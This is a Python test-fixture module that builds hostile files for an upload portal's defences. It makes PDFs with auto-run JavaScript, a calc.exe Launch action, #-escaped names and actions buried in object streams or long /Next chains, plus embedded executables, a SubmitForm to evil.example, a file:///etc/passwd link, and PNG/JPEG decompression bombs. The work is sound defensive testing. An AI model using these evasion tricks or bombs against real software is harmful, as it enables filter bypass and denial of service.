"""A corpus of hostile files, made by the tests (never downloaded), each with what it tries
(issue 23): PDFs that act — written plainly, with ``#``-escaped names, deep in a chain of actions,
inside compressed object streams — PDFs made to be slow to read, picture bombs, and pictures
that carry text in their metadata. Also a few harmless PDFs the portal must keep accepting.

The PDFs are written byte by byte (``pdf``), so that a name can be written exactly as an
attacker would write it."""

from __future__ import annotations

import io
import zlib

from PIL import Image, PngImagePlugin

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>"
ANNOTATED_PAGE = PAGE[:-2] + b"/Annots [4 0 R] >>"


def pdf(
    objects: dict[int, bytes], root_extra: bytes = b"", pages: list[int] | None = None
) -> bytes:
    """A PDF with a catalog (1), a page tree (2) and its pages (3, or ``pages``), and
    ``objects`` as they are written. ``root_extra`` goes into the catalog."""
    pages = pages or [3]
    body = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + root_extra + b" >>",
        2: b"<< /Type /Pages /Kids ["
        + b" ".join(b"%d 0 R" % n for n in pages)
        + b"] /Count %d >>" % len(pages),
        **({3: PAGE} if pages == [3] else {}),
        **objects,
    }
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(body):
        offsets[number] = out.tell()
        content = body[number]
        if isinstance(content, tuple):  # a stream: (dictionary, data)
            dictionary, data = content
            out.write(b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (number, dictionary, data))
        else:
            out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    size = max(body) + 1
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        if number in offsets:
            out.write(b"%010d 00000 n \n" % offsets[number])
        else:
            out.write(b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref))
    return out.getvalue()


def _annotation(action: bytes, subtype: bytes = b"/Link") -> dict[int, bytes]:
    """Page 3 with one annotation (4) whose action is ``action``."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Annots [4 0 R] >>"
    )
    annotation = b"<< /Type /Annot /Subtype " + subtype + b" /Rect [0 0 100 100] /A " + action
    return {3: page, 4: annotation + b" >>"}


def _in_object_stream(objects: dict[int, bytes], root_extra: bytes) -> bytes:
    """The same PDF with its objects moved into a compressed object stream by qpdf."""
    import pikepdf

    plain = pdf(objects, root_extra)
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain)) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _chain_of_actions(length: int) -> tuple[dict[int, bytes], bytes]:
    """An opening action that leads, through ``length`` harmless /Next steps, to JavaScript."""
    objects = {}
    first = 10
    for n in range(length):
        objects[first + n] = b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % (first + n + 1)
    objects[first + length] = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    return objects, b"/OpenAction %d 0 R" % first


def _slow_pdf(pages: int = 2500, fonts: int = 400) -> bytes:
    """Many pages that share one large resource dictionary: a check that walks the resources
    again for every page does pages × fonts work (0.5 MB took 18.6 s before issue 23)."""
    numbers = list(range(10, 10 + pages))
    font_first = 10 + pages + 1
    resources = font_first - 1
    objects: dict[int, bytes] = {
        resources: b"<< /Font << "
        + b" ".join(b"/F%d %d 0 R" % (n, font_first + n) for n in range(fonts))
        + b" >> >>"
    }
    for n in range(fonts):
        objects[font_first + n] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    for number in numbers:
        objects[number] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources %d 0 R >>" % resources
        )
    return pdf(objects, pages=numbers)


def hostile_pdfs() -> dict[str, bytes]:
    """Every PDF the portal must refuse as active, by what it tries."""
    chain, opening = _chain_of_actions(60)
    javascript = {10: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}
    return {
        "JavaScript on opening": pdf(javascript, b"/OpenAction 10 0 R"),
        "Launch written with an escaped name": pdf(
            {10: b"<< /S /Launc#68 /F (calc.exe) >>"}, b"/OpenAction 10 0 R"
        ),
        "JavaScript written with escaped names": pdf(
            {10: b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"}, b"/OpenAction 10 0 R"
        ),
        "JavaScript after 60 /Next actions": pdf(chain, opening),
        "JavaScript in a compressed object stream": _in_object_stream(
            javascript, b"/OpenAction 10 0 R"
        ),
        "an executable under /EmbeddedFiles": pdf(
            {
                10: b"<< /EmbeddedFiles << /Names [(virus.exe) 11 0 R] >> >>",
                11: b"<< /Type /Filespec /F (virus.exe) /EF << /F 12 0 R >> >>",
                12: (b"<< /Type /EmbeddedFile /Length 4 >>", b"MZ\x90\x00"),
            },
            b"/Names 10 0 R",
        ),
        "a named JavaScript": pdf(
            {10: b"<< /JavaScript << /Names [(x) 11 0 R] >> >>", **_js_object(11)},
            b"/Names 10 0 R",
        ),
        "SubmitForm": pdf(_annotation(b"<< /S /SubmitForm /F (https://evil.example/) >>")),
        "ImportData": pdf(_annotation(b"<< /S /ImportData /F (data.fdf) >>")),
        "GoToR to another file": pdf(_annotation(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")),
        "GoToE into an embedded file": pdf(_annotation(b"<< /S /GoToE /D [0 /Fit] >>")),
        "a javascript: link": pdf(_annotation(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>")),
        "a plain http link": pdf(_annotation(b"<< /S /URI /URI (http://evil.example/) >>")),
        "a file: link": pdf(_annotation(b"<< /S /URI /URI (file:///etc/passwd) >>")),
        "additional actions on a page": pdf(
            {
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 10 0 R >> >>",
                **_js_object(10),
            }
        ),
        "an XFA form": pdf({10: b"<< /Fields [] /XFA 11 0 R >>", 11: b"[]"}, b"/AcroForm 10 0 R"),
        "a RichMedia annotation": pdf(
            {
                3: ANNOTATED_PAGE,
                4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",
            }
        ),
        "a file attachment annotation": pdf(
            {
                3: ANNOTATED_PAGE,
                4: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
                5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                6: (b"<< /Type /EmbeddedFile /Length 2 >>", b"MZ"),
            }
        ),
    }


def _js_object(number: int) -> dict[int, bytes]:
    return {number: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}


def unreadable_pdfs() -> dict[str, bytes]:
    """PDFs that cannot be read, or are made to be too costly to read."""
    deep = b"[" * 100_000 + b"]" * 100_000
    return {
        "cut off half way": pdf({})[:200],
        "nested 100,000 deep": pdf({10: deep}, b"/Extra 10 0 R"),
        "not a PDF after its first bytes": b"%PDF-1.7\n" + b"\x00" * 5000,
    }


def slow_pdf() -> bytes:
    return _slow_pdf()


def harmless_pdfs() -> dict[str, bytes]:
    """What a doctor's letter looks like: these must be kept."""
    return {
        "an https link": pdf(_annotation(b"<< /S /URI /URI (https://www.sundhed.dk/) >>")),
        "opens at the first page": pdf({}, b"/OpenAction [3 0 R /Fit]"),
        "a GoTo link": pdf(_annotation(b"<< /S /GoTo /D [3 0 R /Fit] >>")),
        "many pages sharing resources": _slow_pdf(300, 40),
    }


# -- pictures ------------------------------------------------------------------------------------
def png_bomb(side: int = 16_000) -> bytes:
    """About 30 KB on disk, 256 million pixels when decoded: a gigabyte in memory as RGBA."""
    row = b"\x00" + b"\x00" * (side // 8)  # filter byte, then one bit per pixel
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")
        )

    header = side.to_bytes(4, "big") * 2 + bytes([1, 0, 0, 0, 0])  # 1-bit grey
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def jpeg_bomb() -> bytes:
    """A small JPEG whose header says 60,000 × 60,000 pixels."""
    out = io.BytesIO()
    Image.new("L", (16, 16)).save(out, "JPEG")
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = (60_000).to_bytes(2, "big") * 2
    return bytes(data)


def large_phone_photo() -> bytes:
    """A 48-megapixel photo, as a large phone camera takes it (kept, made smaller)."""
    out = io.BytesIO()
    Image.new("RGB", (8000, 6000), (90, 140, 200)).save(out, "JPEG", quality=50)
    return out.getvalue()


SECRETS = (b"HEMMELIG-KOMMENTAR", b"HEMMELIG-XMP", b"HEMMELIG-ICC", b"HEMMELIG-TEKST")


def jpeg_with_text_in_metadata() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 30, 30)).save(
        out,
        "JPEG",
        comment=SECRETS[0],
        xmp=b"<x:xmpmeta>" + SECRETS[1] + b"</x:xmpmeta>",
        icc_profile=b"\x00" * 128 + SECRETS[2],
    )
    return out.getvalue()


def png_with_text_in_metadata() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SECRETS[3].decode())
    out = io.BytesIO()
    Image.new("RGB", (64, 64)).save(
        out, "PNG", pnginfo=info, icc_profile=b"\x00" * 128 + SECRETS[2]
    )
    return out.getvalue()
